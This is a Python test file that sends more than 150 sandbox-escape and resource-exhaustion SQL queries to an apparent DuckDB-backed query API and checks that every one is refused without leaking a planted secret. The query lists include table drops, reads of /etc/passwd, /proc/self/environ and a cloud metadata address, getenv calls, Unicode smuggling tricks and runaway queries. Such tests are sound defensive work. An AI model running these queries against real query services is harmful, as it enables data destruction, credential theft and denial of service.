"""More than a hundred ways out of the sandbox, and ways to wear it out, over HTTP.

None works, each is answered by one problem document, and whoever asks next is answered as before.
"""

from __future__ import annotations

import asyncio
import threading
import time
from collections.abc import Iterator
from concurrent.futures import Future
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from msgspec.structs import replace

from signaldesk.history.queries import Queries
from tests.support import rows
from tests.support.databases import Databases
from tests.support.web import running_web

SECRET = "hunter2-is-what-nobody-may-see"
SECONDS = 2.0
WORN_OUT_IN = 0.6
"""Seconds for what uses up all that it gets: enough to be stopped by memory where that is the limit."""

WRITES = [
    "DELETE FROM events",
    "WITH gone AS (DELETE FROM events RETURNING *) SELECT * FROM gone",
    "WITH a AS (SELECT 1), b AS (DELETE FROM events RETURNING id) SELECT * FROM a, b",
    "SELECT * FROM (WITH gone AS (DELETE FROM events RETURNING *) SELECT * FROM gone)",
    "SELECT (WITH gone AS (DELETE FROM events RETURNING 1) SELECT count(*) FROM gone)",
    "WITH new AS (INSERT INTO events (type) VALUES ('x') RETURNING *) SELECT * FROM new",
    "WITH new AS (UPDATE events SET type = 'x' RETURNING *) SELECT * FROM new",
    "INSERT INTO events (type) VALUES ('x')",
    "UPDATE events SET type = 'x'",
    "MERGE INTO events USING events AS e ON false WHEN NOT MATCHED THEN INSERT (type) VALUES ('x')",
    "TRUNCATE events",
    "DROP TABLE events",
    "ALTER TABLE events RENAME TO gone",
    "CREATE TABLE mine AS SELECT 1",
    "CREATE VIEW mine AS SELECT 1",
    "CREATE MACRO mine() AS 1",
    "CREATE TEMP TABLE mine AS FROM range(10)",
    "CREATE SEQUENCE mine",
    "CREATE SCHEMA mine",
    "CREATE TYPE mine AS ENUM ('a')",
    "SELECT 1; DELETE FROM events",
    "SELECT 1;;;DROP TABLE events;--",
    "/* harmless */ DELETE /* still */ FROM events -- SELECT",
    "BEGIN TRANSACTION",
    "ROLLBACK",
    "EXPLAIN ANALYZE DELETE FROM events",
    "EXPLAIN SELECT 1",
    "VACUUM",
    "CHECKPOINT",
    "COMMENT ON TABLE events IS 'x'",
    "EXPORT DATABASE '{folder}'",
    "IMPORT DATABASE '{folder}'",
    "PREPARE mine AS SELECT 1",
    "EXECUTE mine",
    "CALL pragma_version()",
]
FILES = [
    "COPY events TO '{folder}/out.csv'",
    "COPY (SELECT 1) TO '{folder}/out.parquet'",
    "COPY events FROM '{secret}'",
    "COPY (SELECT * FROM events) TO '/dev/stdout'",
    "SELECT * FROM '{secret}'",
    'SELECT * FROM "{secret}"',
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM 'file:///etc/passwd'",
    "SELECT * FROM '/dev/fd/0'",
    "SELECT * FROM '/proc/self/environ'",
    "FROM '*.parquet'",
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM READ_CSV_AUTO('{secret}', header = false)",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('/proc/self/environ')",
    "SELECT * FROM read_json('{secret}')",
    "SELECT * FROM read_ndjson_objects('/proc/self/environ')",
    "SELECT * FROM read_parquet('{folder}/*.parquet')",
    "SELECT * FROM parquet_metadata('{folder}/x.parquet')",
    "SELECT * FROM parquet_scan(['{folder}/x.parquet'])",
    "SELECT * FROM glob('/**')",
    "SELECT * FROM sniff_csv('{secret}')",
    "SELECT * FROM read_duckdb('{folder}/x.duckdb')",
    "SELECT (SELECT content FROM read_text('{secret}'))",
    "SELECT 1 WHERE EXISTS (FROM read_text('{secret}'))",
    "SELECT 1 ORDER BY (SELECT content FROM read_text('{secret}'))",
    "WITH x AS MATERIALIZED (FROM read_text('{secret}')) FROM x",
    "SELECT * FROM events, LATERAL (FROM read_text('{secret}'))",
    "SELECT * FROM events JOIN read_text('{secret}') ON true",
    "SELECT 1 UNION ALL SELECT content FROM read_text('{secret}')",
    "SELECT * FROM main.read_text('{secret}')",
    "SELECT read_text('{secret}')",
    "SELECT * FROM arrow_scan(140000000, 140000000, 140000000)",
    "SELECT * FROM pandas_scan(140000000)",
    "SELECT * FROM python_map_function(1)",
    "SELECT * FROM 'handed://0.parquet'",
    "SELECT * FROM read_blob('handed://0.parquet')",
    "COPY events TO 'handed://0.parquet'",
    "SELECT * FROM tail",
    "ATTACH '{folder}/x.duckdb' AS x",
    "ATTACH ':memory:' AS x",
    "DETACH memory",
    "USE memory",
]
NETWORK = [
    "SELECT * FROM 'https://example.com/x.csv'",
    "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data')",
    "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "ATTACH 'postgresql://postgres@localhost/postgres' AS pg (TYPE postgres)",
    "SELECT * FROM postgres_query('pg', 'SELECT 1')",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL httpfs FROM 'http://example.com'",
    "INSTALL spatial FROM community",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "COPY events TO 's3://bucket/x.parquet'",
]
CONFIGURATION = [
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "RESET memory_limit",
    "SET memory_limit = '100GB'",
    "SET VARIABLE x = 1",
    "SET python_enable_replacements = true",
    "PRAGMA enable_profiling",
    "PRAGMA database_list",
    "SELECT current_setting('temp_directory')",
    "SELECT set_config('threads', '9', false)",
    "SELECT getenv('ESCAPE_SECRET')",
    "SELECT GetEnv('PATH')",
    "SELECT \"getenv\"('PATH')",
    "SELECT main.getenv('PATH')",
    "SELECT system.main.getenv('PATH')",
    "SELECT 'PATH'.getenv()",
    "SELECT list_transform(['PATH'], lambda x: getenv(x))",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_functions()",
    "SELECT * FROM duckdb_tables",
    "SELECT * FROM duckdb_databases()",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT * FROM pragma_database_size()",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM sqlite_master",
    "SELECT current_database()",
    "SELECT version()",
    "SHOW TABLES",
    "SHOW ALL TABLES",
    "DESCRIBE events",
    "FROM (SHOW TABLES)",
    "SUMMARIZE events",
]
OTHERS = [
    "SELECT * FROM orgs",
    "SELECT * FROM api_keys",
    "SELECT * FROM public.events",
    "SELECT * FROM memory.main.events",
    "SELECT * FROM main.users",
    "SELECT org_id FROM events",
    "SELECT payload FROM events WHERE org_id <> 'x'",
    "SELECT * FROM query('SELECT 1')",
    "SELECT * FROM query_table('events')",
    "SELECT * FROM query_table(['ev' || 'ents'])",
    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "PRAGMA json_execute_serialized_sql('{{}}')",
    "SELECT * FROM json_execute_serialized_sql('{{}}')",
    "SELECT * FROM table_names",
    "SELECT * FROM frame",
    "SELECT * FROM connection",
    "SELECT * FROM self",
    "SELECT $1",
    "SELECT ?",
    "SELECT $secret",
    "SELECT * FROM IDENTIFIER('events')",
    "SELECT * FROM (WITH sqlite_master AS (SELECT 1) FROM sqlite_master), sqlite_master",
    "WITH x AS (FROM duckdb_columns), duckdb_columns AS (SELECT 1) FROM x",
    "WITH duckdb_views AS (FROM duckdb_views) FROM duckdb_views",
    "WITH RECURSIVE pg_class AS (FROM pg_class UNION ALL FROM pg_class) FROM pg_class",
    "SELECT (WITH tail AS (SELECT 1) FROM tail), * FROM events, tail",
    'SELECT 1 UNION ALL (WITH "handed://0.parquet" AS (SELECT 2) FROM "handed://0.parquet") '
    'UNION ALL FROM "handed://0.parquet"',
    "SELECT * FROM еvents",
    "SELECT * FROM \u202eevents",
    "SELECT ＊ FROM events",
    "\ufeffSELECT 1\u037e DELETE FROM events",
    "SELECT 'a\x00b'; DROP TABLE events",
    "SELECT U&'\\0067etenv' FROM",
    "FROM events AT (VERSION => 1)",
    ";",
    "",
    "'",
    '"',
    "/*",
    "SELECT 1 --\n; SELECT 2",
]
EXHAUSTION = [
    "SELECT repeat('a', 1_000_000_000)",
    "SELECT repeat(repeat('a', 10_000), 1_000_000)",
    "SELECT lpad('a', 2_000_000_000, 'b')",
    "SELECT list(range) FROM range(10_000_000_000)",
    "SELECT range(10_000_000_000)",
    "SELECT string_agg(repeat('x', 1000), '') FROM range(100_000_000)",
    "SELECT DISTINCT md5(range::VARCHAR) FROM range(1_000_000_000) ORDER BY 1",
    "SELECT * FROM range(1_000_000_000) ORDER BY hash(range) LIMIT 10 OFFSET 900_000_000",
    "SELECT count(*) FROM generate_series(1, 1_000_000_000_000)",
    "SELECT sum(a.range * b.range % 7) FROM range(1_000_000) a, range(1_000_000) b",
    "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM t) SELECT max(a) FROM t",
    "WITH RECURSIVE t AS (SELECT [1] AS a UNION ALL SELECT list_concat(a, a) FROM t) SELECT len(a) FROM t",
    "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT a FROM t, range(10)) SELECT count(*) FROM t",
    "SELECT * FROM range(1_000_000_000)",
    "SELECT sum(regexp_matches(repeat('a', 5000) || range, '(a?){{500}}b$')::INT) FROM range(100_000_000)",
    "SELECT regexp_matches('a', '((a{{0,1000}}){{0,1000}}){{0,1000}}')",
    "SELECT levenshtein(repeat('a', 100_000), repeat('b', 100_000))",
    "SELECT sum(factorial(30)) FROM range(100_000_000_000)",
    "SELECT format('{{:>1000000000}}', 'x')",
    "SELECT bitstring('1', 2_000_000_000)",
    "SELECT list_resize([1], 1_000_000_000)",
    "SELECT reservoir_quantile(range, 0.5, 2_000_000_000) FROM range(10)",
    "SELECT 1 WHERE " + "1 = 2 OR " * 11_000 + "1 = 1 AND x",
    "SELECT 1 WHERE " + "false OR " * 50_000 + "true",
    "SELECT " + "(" * 20_000 + "1" + ")" * 20_000,
    "SELECT " + "NOT " * 20_000 + "true",
    "SELECT " + "1 + " * 20_000 + "1",
    "SELECT " + "[" * 20_000 + "1" + "]" * 20_000,
    "SELECT " + "(SELECT " * 3_000 + "1" + ")" * 3_000,
    "SELECT * FROM " + "(SELECT * FROM " * 3_000 + "events" + ")" * 3_000,
    "SELECT " + "CASE WHEN true THEN " * 4_000 + "1" + " END" * 4_000,
    "SELECT " + "abs(" * 15_000 + "1" + ")" * 15_000,
    "SELECT 1 WHERE 1 IN (" + "1," * 200_000 + "1)",
    "SELECT '" + "x" * 900_000 + "'",
    "SELECT * FROM " + " CROSS JOIN ".join(f"range(100) t{i}" for i in range(60)),
    "SELECT json_extract('" + "[" * 40_000 + "', '$[0]')",
    "SELECT sleep_ms(100_000)",
    "SELECT pg_sleep(100)",
]
ATTEMPTS = WRITES + FILES + NETWORK + CONFIGURATION + OTHERS + EXHAUSTION


@dataclass(frozen=True)
class Target:
    """A server that holds a secret in its environment and in a file."""

    client: httpx.Client
    folder: Path
    secret: Path
    queries: Queries

    def ask(self, sql: str, *, seconds: float = SECONDS) -> httpx.Response:
        self.queries._limits = replace(self.queries._limits, seconds=seconds)
        return self.client.post("/api/v1/query", json={"sql": sql})


@pytest.fixture(scope="module")
def target(
    databases: Databases, files_redis_url: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Target]:
    """One server for all attempts, in a thread of its own."""
    folder = tmp_path_factory.mktemp("escape")
    folder.chmod(0o777)
    secret = folder / "secret.txt"
    secret.write_text(f"{SECRET}\n")
    secret.chmod(0o644)
    up: Future[tuple[str, str, Queries]] = Future()
    stop = asyncio.Event()
    loops: list[asyncio.AbstractEventLoop] = []

    async def serve(database_url: str) -> None:
        loops.append(asyncio.get_running_loop())
        limits: dict[str, Any] = {"query_seconds": SECONDS, "query_memory": 128 << 20, "query_rows": 1000}
        async with running_web(database_url, files_redis_url, **limits) as web:
            org, other = await web.found("Acme"), await web.found("Other")
            for one, country in ((org, "DE"), (other, SECRET)):
                await rows.event(web.desk.database, one.id, payload={"country": country})
            up.set_result((web.url, org.key, web.services.queries))
            await stop.wait()

    with pytest.MonkeyPatch.context() as patch, databases.fresh(migrated=True) as database_url:
        patch.setenv("ESCAPE_SECRET", SECRET)
        thread = threading.Thread(target=lambda: asyncio.run(serve(database_url)), daemon=True)
        thread.start()
        url, key, queries = up.result(60)
        with httpx.Client(base_url=url, timeout=30, headers={"Authorization": f"Bearer {key}"}) as client:
            yield Target(client, folder, secret, queries)
        loops[0].call_soon_threadsafe(stop.set)
        thread.join(30)


def named(attempt: str) -> str:
    return f"{ATTEMPTS.index(attempt)}-{attempt[:40]!a}"


def test_there_are_more_than_a_hundred_attempts() -> None:
    assert len(set(ATTEMPTS)) > 150


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=named)
def test_no_way_out_is_open(target: Target, attempt: str) -> None:
    sql = attempt if "{" not in attempt else attempt.format(folder=target.folder, secret=target.secret)
    begun = time.monotonic()
    answer = target.ask(sql, seconds=WORN_OUT_IN if attempt in EXHAUSTION else SECONDS)
    assert time.monotonic() - begun < SECONDS + 8
    assert SECRET not in answer.text
    assert answer.status_code in (400, 422), answer.text[:500]
    document = answer.json()
    assert document["code"] in {"query_refused", "query_invalid", "query_over_limit", "invalid", "malformed"}
    assert 10 < len(document["detail"]) < 800
    assert "site-packages" not in document["detail"], "what is ours to know"
    assert [path.name for path in target.folder.iterdir()] == ["secret.txt"]
    if attempt in EXHAUSTION or attempt == OTHERS[-1]:
        again = target.ask("SELECT payload.country, count(*) OVER () FROM events")
        assert again.json()["rows"] == [["DE", 1]]
